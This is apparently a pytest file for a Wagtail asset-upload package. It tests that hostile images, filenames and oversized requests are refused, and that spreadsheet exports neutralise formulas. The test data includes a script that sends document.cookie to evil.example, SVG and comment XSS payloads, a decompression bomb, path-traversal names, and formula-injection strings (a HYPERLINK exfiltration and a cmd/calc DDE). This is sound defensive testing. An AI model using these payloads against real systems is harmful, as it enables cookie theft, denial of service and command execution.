"""Hostile files, names and requests are refused with a reason, and leave nothing behind.

Every refusal asserts: the ``UploadRefused`` code, a message naming the problem, no new database
rows (images, versions, renditions) and no new file in MEDIA_ROOT (or in the S3 buckets).
"""

import io
import os
import re
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image as PILImage
from PIL.PngImagePlugin import PngInfo
from wagtail.images import get_image_model

from tests.factories import make_product
from wagtail_lfcloud.assets.uploads import UploadRefused, upload_version
from wagtail_lfcloud.models import AssetVersion

pytestmark = pytest.mark.django_db

NAME = "SKU10001_2025-10_front.jpg"


# --- payloads -------------------------------------------------------------------------------------


def noisy_jpeg(size=(48, 32), **save) -> bytes:
    """A photo-like JPEG: random pixels, so the entropy-coded data looks like a real photograph's."""
    image = PILImage.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90, **save)
    return out.getvalue()


def png(size=(32, 32), pnginfo=None) -> bytes:
    out = io.BytesIO()
    PILImage.new("RGB", size, (200, 10, 10)).save(out, "PNG", pnginfo=pnginfo)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width=100_000, height=100_000) -> bytes:
    """A few hundred bytes whose header promises ``width`` x ``height`` pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header is rewritten to claim ``width`` x ``height``."""
    data = bytearray(noisy_jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", b"MZ" + os.urandom(256), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML_TAIL = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"


def comment_png() -> bytes:
    info = PngInfo()
    info.add_text("Comment", "<html><script>alert(1)</script></html>")
    return png(pnginfo=info)


# --- what "nothing behind" means ------------------------------------------------------------------


def media_files(settings) -> list[str]:
    root = settings.MEDIA_ROOT
    return sorted(os.path.join(d, f) for d, _dirs, files in os.walk(root) for f in files)


def counts() -> tuple[int, int, int]:
    Image = get_image_model()
    return (
        Image.objects.count(),
        AssetVersion.objects.count(),
        Image.get_rendition_model().objects.count(),
    )


def refused(
    studio, settings, content: bytes, name: str = NAME, *, filename=None, code: str, says: str
):
    before_rows, before_files = counts(), media_files(settings)
    upload = SimpleUploadedFile(name, content, content_type="image/jpeg")
    with pytest.raises(UploadRefused) as info:
        upload_version(upload, brand=studio.brand, user=studio.user, filename=filename)
    assert info.value.code == code, str(info.value)
    assert says.lower() in str(info.value).lower()
    assert counts() == before_rows
    assert media_files(settings) == before_files
    return info.value


# --- files ----------------------------------------------------------------------------------------


def test_a_photo_like_jpeg_and_a_png_are_accepted(studio, settings):
    """The control: the checks below refuse hostile files, not ordinary ones."""
    for _ in range(5):  # several random photographs: none trips the polyglot checks by chance
        result = upload_version(
            SimpleUploadedFile(NAME, noisy_jpeg((96, 64))), brand=studio.brand, user=studio.user
        )
        assert result.version.image.file.name.startswith("original_images/")
    upload_version(
        SimpleUploadedFile("SKU10001_2025-10_back.png", png()), brand=studio.brand, user=studio.user
    )
    assert AssetVersion.objects.count() == 6


def test_zero_byte_file(studio, settings):
    refused(studio, settings, b"", code="not_image", says="empty")


def test_random_bytes(studio, settings):
    refused(studio, settings, os.urandom(4096), code="not_image", says=NAME)


def test_truncated_jpeg(studio, settings):
    data = noisy_jpeg((96, 96))
    refused(studio, settings, data[: len(data) // 2], code="corrupt", says="damaged or incomplete")


def test_png_named_jpg(studio, settings):
    refused(studio, settings, png(), code="not_image", says="jpeg")


def test_svg_with_script_by_extension(studio, settings):
    refused(studio, settings, SVG, "SKU10001_2025-10_front.svg", code="name", says="svg")


def test_svg_with_script_named_png(studio, settings):
    refused(
        studio,
        settings,
        SVG,
        "SKU10001_2025-10_front.png",
        code="not_image",
        says="SKU10001_2025-10_front.png",
    )


def test_decompression_bomb(studio, settings):
    refused(
        studio, settings, png_bomb(), "SKU10001_2025-10_front.png", code="not_image", says="pixels"
    )
    assert len(png_bomb()) < 1000  # ten billion pixels promised in a few hundred bytes


def test_huge_dimensions_in_a_real_jpeg(studio, settings):
    refused(studio, settings, jpeg_claiming(65_000, 65_000), code="not_image", says="pixels")


def test_dimensions_over_a_lower_configured_limit(studio, settings):
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 1000
    refused(studio, settings, noisy_jpeg((48, 32)), code="not_image", says="pixels")


def test_jpeg_with_html_appended(studio, settings):
    refused(studio, settings, noisy_jpeg() + HTML_TAIL, code="unsafe", says="HTML or script")


def test_jpeg_with_zip_appended(studio, settings):
    refused(studio, settings, noisy_jpeg() + zip_bytes(), code="unsafe", says="appended")


def test_png_with_zip_appended(studio, settings):
    refused(
        studio,
        settings,
        png() + zip_bytes(),
        "SKU10001_2025-10_front.png",
        code="unsafe",
        says="appended",
    )


def test_jpeg_with_script_in_its_comment(studio, settings):
    data = noisy_jpeg(comment=b"<script>alert(1)</script>")
    refused(studio, settings, data, code="unsafe", says="<script")


def test_png_with_html_in_a_text_chunk(studio, settings):
    refused(
        studio, settings, comment_png(), "SKU10001_2025-10_front.png", code="unsafe", says="HTML"
    )


# --- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filename, says",
    [
        ("../../SKU10001_2025-10_front.jpg", "points outside its folder"),
        ("shoot/../../../etc/SKU10001_2025-10_front.jpg", "points outside its folder"),
        ("..\\..\\SKU10001_2025-10_front.jpg", "outside its folder"),
        ("SKU10001_2025-10_front\x00.jpg", "control"),
        ("SKU10001_2025-10_front\r\n.jpg", "control"),
        ("SKU10001_2025-10_front\u202egpj.jpg", "control or invisible"),
        ("SKU10001_2025-10_front" + "é" * 300 + ".jpg", "characters long"),
        ("SKU10001_2025-10_frônt.jpg", "angle"),
        (".SKU10001_2025-10_front.jpg", "starts with a dot"),
    ],
)
def test_hostile_names(studio, settings, filename, says):
    refused(studio, settings, noisy_jpeg(), filename=filename, code="name", says=says)


def test_a_folder_drop_name_keeps_only_the_file_name(studio):
    result = upload_version(
        SimpleUploadedFile("x.jpg", noisy_jpeg()),
        brand=studio.brand,
        user=studio.user,
        filename="shoot day 1/SKU10001_2025-10_front.jpg",
    )
    # Stored under an unguessable name (storage.unguessable), made from the bare file name.
    assert re.fullmatch(
        r"original_images/lfc[0-9a-f]{16}_SKU10001_2025-10_front\.jpg",
        result.version.image.file.name,
    )
    assert result.version.original_filename == "SKU10001_2025-10_front.jpg"


# --- requests -------------------------------------------------------------------------------------


def post_file(client, studio, content: bytes, **extra):
    return client.post(
        reverse("wagtail_lfcloud_admin:upload_file"),
        {"brand": studio.brand.pk, "file": SimpleUploadedFile(NAME, content), **extra},
    )


def test_file_over_the_upload_limit(client, studio, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 2_000
    client.force_login(studio.user)
    before_rows, before_files = counts(), media_files(settings)
    response = post_file(client, studio, noisy_jpeg((96, 96)))
    assert response.status_code == 400
    assert response.json()["code"] == "too_large"
    assert "largest file accepted is 2.0" in response.json()["error"]
    assert counts() == before_rows and media_files(settings) == before_files


def test_form_fields_over_the_memory_limit(client, studio, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1_000
    client.force_login(studio.user)
    before_rows, before_files = counts(), media_files(settings)
    response = post_file(client, studio, noisy_jpeg(), filename="A" * 5_000)
    assert response.status_code == 400
    assert counts() == before_rows and media_files(settings) == before_files


def test_too_many_files_in_one_post(client, studio, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 2
    client.force_login(studio.user)
    before_rows, before_files = counts(), media_files(settings)
    files = [SimpleUploadedFile(f"SKU10001_2025-10_front{i}.jpg", noisy_jpeg()) for i in range(3)]
    response = client.post(
        reverse("wagtail_lfcloud_admin:upload"), {"brand": studio.brand.pk, "files": files}
    )
    assert response.status_code == 400
    assert counts() == before_rows and media_files(settings) == before_files


# --- on S3 ----------------------------------------------------------------------------------------


@pytest.mark.s3
@pytest.mark.parametrize(
    "content, name, code",
    [
        (noisy_jpeg() + zip_bytes(), NAME, "unsafe"),
        (png_bomb(), "SKU10001_2025-10_front.png", "not_image"),
        (b"", NAME, "not_image"),
    ],
)
def test_refusals_leave_the_buckets_empty(studio, s3_storages, content, name, code):
    with pytest.raises(UploadRefused) as info:
        upload_version(SimpleUploadedFile(name, content), brand=studio.brand, user=studio.user)
    assert info.value.code == code
    assert s3_storages.original_keys() == [] and s3_storages.rendition_keys() == []


# --- spreadsheet exports --------------------------------------------------------------------------


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "style": "+cmd|' /C calc'!A0",
    "colour": "-2+3",
    "asin": "@SUM(1+1)",
}


def export(client, fmt):
    from wagtail.snippets.models import get_snippet_models  # noqa: F401  (registers the viewsets)

    from wagtail_lfcloud.models import Product

    url = reverse(Product.snippet_viewset.get_url_name("list")) + f"?export={fmt}"
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_product_csv_export_neutralises_formulas(client, studio):
    from tests.factories import make_user

    make_product(studio.brand, sku="SKU666", **FORMULAS)
    client.force_login(make_user(superuser=True))
    text = export(client, "csv").decode("utf-8")
    row = next(line for line in text.splitlines() if "SKU666" in line)
    for value in FORMULAS.values():
        assert ("'" + value) in row.replace('""', '"'), row
    # Plain values are untouched.
    assert ",SKU666," in row


def test_product_xlsx_export_stores_formulas_as_text(client, studio):
    import openpyxl

    from tests.factories import make_user

    make_product(studio.brand, sku="SKU666", **FORMULAS)
    client.force_login(make_user(superuser=True))
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx"))).active
    row = next(r for r in sheet.iter_rows() if any(c.value == "SKU666" for c in r))
    cells = {c.value: c.data_type for c in row}
    for value in FORMULAS.values():
        assert cells.get(value) == "s", (value, cells)


def test_neutralise_leaves_numbers_and_plain_text_alone():
    from decimal import Decimal

    from wagtail_lfcloud.delivery.exports import neutralise

    assert neutralise(Decimal("-5.00")) == Decimal("-5.00")
    assert neutralise(-3) == -3
    assert neutralise("Red shoe") == "Red shoe"
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("\t=1") == "'\t=1"


def test_every_package_viewset_with_an_export_neutralises_formulas():
    from wagtail_lfcloud.delivery.exports import SafeCSVExportMixin
    from wagtail_lfcloud.viewsets import ITEMS

    # Only snippet viewsets list and export; plain menu viewsets (API tokens) have no listing.
    exporting = [viewset for viewset in ITEMS if getattr(viewset, "list_export", None)]
    assert exporting
    for viewset_class in exporting:
        viewset = viewset_class.model.snippet_viewset
        assert issubclass(viewset.index_view.view_class, SafeCSVExportMixin), viewset_class.__name__
